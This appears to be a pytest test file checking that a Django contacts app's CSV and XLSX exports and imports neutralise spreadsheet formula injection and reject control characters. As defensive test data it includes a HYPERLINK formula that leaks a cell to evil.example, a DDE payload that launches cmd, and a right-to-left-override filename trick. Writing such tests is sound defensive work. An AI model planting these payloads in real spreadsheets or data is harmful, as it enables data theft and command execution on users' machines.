"""Text a spreadsheet program would run as a formula, and characters XML cannot hold, through every import and export
path: the listings' CSV and XLSX (in the request and as a job), Import and export (files in the request and as a job,
rows to fix) and imports of CSV and XLSX files (core.spreadsheets, core.validators)."""

import csv
import io

import pytest
from django.contrib.auth.models import Permission
from django.core.files.storage import default_storage
from django.urls import reverse
from django.utils import translation
from openpyxl import Workbook, load_workbook
from taggit.models import Tag

from contacts.models import Person, TaggedPerson
from jobs.models import Job
from partners.models import Organization
from relations.models import Engagement, TaggedEngagement
from tests.factories.core import UserFactory
from tests.factories.relations import EngagementFactory
from tests.transfers.fixtures import tag
from tests.transfers.helpers import ORDER, import_content, round_trip
from transfers.registry import RESOURCES
from transfers.services import export_file

pytestmark = pytest.mark.django_db

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'
DDE = "@SUM(1+1)*cmd|' /C calc'!A0"
# Everything a spreadsheet program reads as the start of a formula (OWASP), and text already escaped once.
FORMULAS = {
    "family_name_latin": HYPERLINK,
    "given_name_latin": "+81 3 1234 5678",
    "family_name": "-2+3",
    "given_name": DDE,
    "honorific_prefix": "'=1+1",
}
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


@pytest.fixture(autouse=True)
def english():
    with translation.override("en"):
        yield


@pytest.fixture
def hostile(directory):
    person = Person.objects.create(**FORMULAS)
    tag(TaggedPerson, person, "=1+1")
    Organization.objects.create(name="-JETRO+1", country=directory["jetro"].country)
    engagement = EngagementFactory(subject=HYPERLINK, location="\t=cmd")
    tag(TaggedEngagement, engagement, "@risky")
    return {"person": person, "engagement": engagement}


def _csv_rows(content: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")))


def _xlsx_cells(content: bytes) -> list[list]:
    sheet = load_workbook(io.BytesIO(content)).active
    return [list(row) for row in sheet.iter_rows()]


def _formula_cells_in_csv(content: bytes) -> list[str]:
    return [cell for row in _csv_rows(content) for cell in row if cell.startswith(TRIGGERS)]


def _formula_cells_in_xlsx(content: bytes) -> list[str]:
    return [cell.value for row in _xlsx_cells(content) for cell in row if cell.data_type == "f"]


def _xlsx_values(content: bytes) -> set:
    return {cell.value for row in _xlsx_cells(content) for cell in row}


def _content(response) -> bytes:
    return b"".join(response.streaming_content) if response.streaming else response.content


# --- Import and export ---------------------------------------------------------------------------------------------


@pytest.mark.parametrize("name", sorted(RESOURCES))
def test_no_import_and_export_csv_carries_a_formula(hostile, name):
    content = export_file(resource_name=name, file_format="csv")

    assert _formula_cells_in_csv(content) == []


@pytest.mark.parametrize("name", sorted(RESOURCES))
def test_no_import_and_export_xlsx_carries_a_formula(hostile, name):
    content = export_file(resource_name=name, file_format="xlsx")

    assert _formula_cells_in_xlsx(content) == []


def test_import_and_export_csv_writes_formula_text_with_an_apostrophe_first(hostile):
    rows = _csv_rows(export_file(resource_name="people", file_format="csv"))
    headers = rows[0]
    person = next(row for row in rows if row[headers.index("Family name (romanized)")].endswith('Click")'))

    assert [person[headers.index(heading)] for heading in ("Family name (romanized)", "Given name (romanized)")] == [
        "'" + HYPERLINK,
        "'+81 3 1234 5678",
    ]
    assert person[headers.index("Tags")] == "'=1+1"


def test_import_and_export_xlsx_writes_formula_text_as_text_as_it_is_stored(hostile):
    values = _xlsx_values(export_file(resource_name="people", file_format="xlsx"))

    assert {*FORMULAS.values(), "=1+1"} <= values


@pytest.mark.parametrize("file_format", ["csv", "xlsx"])
def test_formula_text_exported_and_imported_again_is_stored_unchanged(hostile, file_format):
    _first, _second, results = round_trip(ORDER, file_format=file_format)

    assert {name: result.counts["error"] for name, result in results.items()} == dict.fromkeys(ORDER, 0)
    person = Person.objects.get(family_name_latin=HYPERLINK)
    assert {name: getattr(person, name) for name in FORMULAS} == FORMULAS
    assert list(person.tags.names()) == ["=1+1"]
    assert Organization.objects.filter(name="-JETRO+1").count() == 1


def test_import_and_export_download_carries_no_formula(client, hostile):
    client.force_login(UserFactory(is_superuser=True))

    files = {
        file_format: client.get(reverse("transfers:export"), {"resource": "people", "format": file_format}).content
        for file_format in ("csv", "xlsx")
    }

    assert (_formula_cells_in_csv(files["csv"]), _formula_cells_in_xlsx(files["xlsx"])) == ([], [])
    assert HYPERLINK in _xlsx_values(files["xlsx"])


@pytest.mark.parametrize("file_format", ["csv", "xlsx"])
def test_import_and_export_job_file_carries_no_formula(
    client, hostile, settings, django_capture_on_commit_callbacks, file_format
):
    client.force_login(UserFactory(is_superuser=True))
    settings.TRANSFERS_JOB_THRESHOLD_ROWS = 1

    with django_capture_on_commit_callbacks(execute=True):
        client.get(reverse("transfers:export"), {"resource": "people", "format": file_format})

    job = Job.objects.get()
    with default_storage.open(job.result["file"], "rb") as handle:
        content = handle.read()
    default_storage.delete(job.result["file"])  # the tests' storage outlives the test
    found = _formula_cells_in_csv(content) if file_format == "csv" else _formula_cells_in_xlsx(content)
    assert (job.status, found) == ("succeeded", [])


@pytest.mark.parametrize("file_format", ["csv", "xlsx"])
def test_rows_to_fix_carry_no_formula_and_read_back_as_uploaded(directory, file_format):
    upload = (
        "Family name (romanized),Given name (romanized),Nationality\n"
        f'"{HYPERLINK.replace(chr(34), 2 * chr(34))}",+81,Atlantis\n'
    )

    result = import_content("people", upload.encode(), good_rows_only=True)

    rejected = result.rejected_file(file_format)
    if file_format == "csv":
        assert _csv_rows(rejected)[1][:2] == ["'" + HYPERLINK, "'+81"]
    else:
        assert (_formula_cells_in_xlsx(rejected), [cell.value for cell in _xlsx_cells(rejected)[1]][:2]) == (
            [],
            [HYPERLINK, "+81"],
        )


# --- listing exports -----------------------------------------------------------------------------------------------

LISTINGS = [
    "wagtailsnippets_contacts_person:list",
    "relations_engagements:list",
    "wagtailsnippets_partners_organization:list",
]


@pytest.mark.parametrize("listing", LISTINGS)
def test_listing_exports_carry_no_formula(client, hostile, listing):
    client.force_login(UserFactory(is_superuser=True))
    url = reverse(listing)

    csv_content = _content(client.get(f"{url}?export=csv", HTTP_ACCEPT_LANGUAGE="en"))
    xlsx_content = _content(client.get(f"{url}?export=xlsx", HTTP_ACCEPT_LANGUAGE="en"))

    assert (_formula_cells_in_csv(csv_content), _formula_cells_in_xlsx(xlsx_content)) == ([], [])


def test_listing_exports_write_formula_text_escaped_in_csv_and_as_text_in_xlsx(client, hostile):
    client.force_login(UserFactory(is_superuser=True))
    url = reverse("relations_engagements:list")

    csv_rows = _csv_rows(_content(client.get(f"{url}?export=csv", HTTP_ACCEPT_LANGUAGE="en")))
    xlsx_values = _xlsx_values(_content(client.get(f"{url}?export=xlsx", HTTP_ACCEPT_LANGUAGE="en")))

    subject = csv_rows[0].index("Subject")
    assert [row[subject] for row in csv_rows[1:]] == ["'" + HYPERLINK]
    assert {HYPERLINK, "\t=cmd"} <= xlsx_values


@pytest.mark.parametrize("export_format", ["csv", "xlsx"])
def test_listing_export_job_file_carries_no_formula(
    client, hostile, settings, django_capture_on_commit_callbacks, export_format
):
    user = UserFactory()
    user.user_permissions.add(
        *Permission.objects.filter(codename__in=["access_admin", "view_engagement", "export_records"])
    )
    client.force_login(user)
    settings.TRANSFERS_JOB_THRESHOLD_ROWS = 0

    with django_capture_on_commit_callbacks(execute=True):
        client.get(f"{reverse('relations_engagements:list')}?export={export_format}", HTTP_ACCEPT_LANGUAGE="en")

    job = Job.objects.get()
    content = _content(client.get(reverse("jobs:download", args=[job.pk])))
    default_storage.delete(job.result["file"])  # the tests' storage outlives the test
    if export_format == "csv":
        cells = {cell for row in _csv_rows(content) for cell in row}
        assert (_formula_cells_in_csv(content), "'" + HYPERLINK in cells) == ([], True)
    else:
        assert (_formula_cells_in_xlsx(content), HYPERLINK in _xlsx_values(content)) == ([], True)


# --- a stored character that XML cannot hold -----------------------------------------------------------------------


@pytest.fixture
def stored_control_characters(directory):
    """Written past the forms' validation, as an older row or a direct write could hold them."""
    engagement = EngagementFactory(subject="Trade talks")
    tag(TaggedEngagement, engagement, "budget")
    tag(TaggedPerson, directory["ambassador"], "protocol")
    Tag.objects.filter(name__in=["budget", "protocol"]).update(name=models_concat("\x1b[31m", "\x07"))
    Person.objects.filter(pk=directory["ambassador"].pk).update(family_name_latin="Ph\x01am\x0b")
    Engagement.objects.filter(pk=engagement.pk).update(subject="Trade\x08talks")
    return directory


def models_concat(prefix, suffix):
    from django.db.models import F, Value
    from django.db.models.functions import Concat

    return Concat(Value(prefix), F("name"), Value(suffix))


@pytest.mark.parametrize(
    ("listing", "replaced"),
    [
        ("wagtailsnippets_contacts_person:list", {"Ph\ufffdam\ufffd", "\ufffd[31mprotocol\ufffd, VIP"}),
        ("relations_engagements:list", {"Trade\ufffdtalks"}),
    ],
)
def test_listing_xlsx_export_answers_with_a_stored_control_character_replaced(
    client, stored_control_characters, listing, replaced
):
    client.force_login(UserFactory(is_superuser=True))

    response = client.get(f"{reverse(listing)}?export=xlsx", HTTP_ACCEPT_LANGUAGE="en")

    assert (response.status_code, replaced <= _xlsx_values(_content(response))) == (200, True)


@pytest.mark.parametrize(
    ("name", "replaced"),
    [
        ("people", {"Ph\ufffdam\ufffd", "\ufffd[31mprotocol\ufffd; VIP"}),
        ("engagements", {"Trade\ufffdtalks", "\ufffd[31mbudget\ufffd"}),
    ],
)
def test_import_and_export_xlsx_answers_with_a_stored_control_character_replaced(
    stored_control_characters, name, replaced
):
    assert replaced <= _xlsx_values(export_file(resource_name=name, file_format="xlsx"))


# --- imports -------------------------------------------------------------------------------------------------------

HEADINGS = "Family name (romanized),Given name (romanized),Nationality,E-mails,Tags"


def _xlsx(rows) -> bytes:
    workbook = Workbook()
    for row in rows:
        workbook.active.append(row)
    output = io.BytesIO()
    workbook.save(output)
    return output.getvalue()


@pytest.mark.parametrize("file_format", ["csv", "xlsx"])
def test_imported_cells_follow_the_text_rules_of_the_forms(directory, file_format):
    rows = [
        HEADINGS.split(","),
        ["Ono", "Ken", "JP", "ken@example.jp", "trade, invoice\u202egnp.exe"],  # a tag with a right-to-left override
        ["Sato\x1b[2J", "Yuki", "JP", "", ""],  # an escape sequence in a name
        ["Kato", "Aoi", "JP", "aoi@exam\u2028ple.jp", "ok"],  # a line separator inside a list item
        ["Ito", "Mei", "JP", "", "trade\u2028fair"],  # a line separator inside a tag
        ["Abe", "Rin", "JP", "", "trade, 経済交流"],  # good
    ]
    if file_format == "csv":
        output = io.StringIO()
        csv.writer(output).writerows(rows)
        content, file_name = output.getvalue().encode(), "people.csv"
    else:
        content, file_name = _xlsx([[cell.replace("\x1b", "\u202e") for cell in row] for row in rows]), "people.xlsx"
    escape = "U+001B" if file_format == "csv" else "U+202E"

    result = import_content("people", content, file_name=file_name)

    assert result.written is False
    assert {row.number: row.errors for row in result.error_rows} == {
        2: {"Tags": ["Remove the invisible control character U+202E (at position 15)."]},
        3: {"Family name (romanized)": [f"Remove the invisible control character {escape} (at position 5)."]},
        4: {"E-mails": ["Remove the invisible control character U+2028 (at position 9)."]},
        5: {"Tags": ["Tag “tradefair”: Remove the invisible control character U+2028 (at position 6)."]},
    }
    assert list(Tag.objects.filter(name__contains="gnp")) == []
